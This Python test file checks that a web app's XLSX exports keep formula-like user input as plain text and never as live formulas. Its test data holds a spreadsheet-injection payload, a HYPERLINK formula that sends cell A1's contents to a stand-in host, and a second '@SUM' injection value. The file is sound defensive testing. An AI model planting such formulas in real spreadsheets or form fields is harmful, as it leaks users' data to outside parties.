"""A text that looks like a formula (an applicant's name typed as ``=HYPERLINK(...)``) stays text in every XLSX."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from sopan.web.monitoring.spreadsheet import report_workbook, workbook

FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def _cells(data: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_a_table_keeps_a_formula_like_text_as_text() -> None:
    cells = _cells(workbook([("Buku", ["No", "Pemohon"], [[1, FORMULA], [2, "@SUM(A1)"]])]))
    assert (FORMULA, "s") in cells and ("@SUM(A1)", "s") in cells
    assert (1, "n") in cells  # numbers stay numbers
    assert not [value for value, kind in cells if kind == "f"]


def test_a_report_keeps_formula_like_heading_rows_and_closing_as_text() -> None:
    data = report_workbook("Rekap", [FORMULA], ["SOP", "Jumlah"], [[FORMULA, 3]], [FORMULA, 3], closing=[FORMULA])
    cells = _cells(data)
    assert cells.count((FORMULA, "s")) == 4 and (3, "n") in cells
    assert not [value for value, kind in cells if kind == "f"]
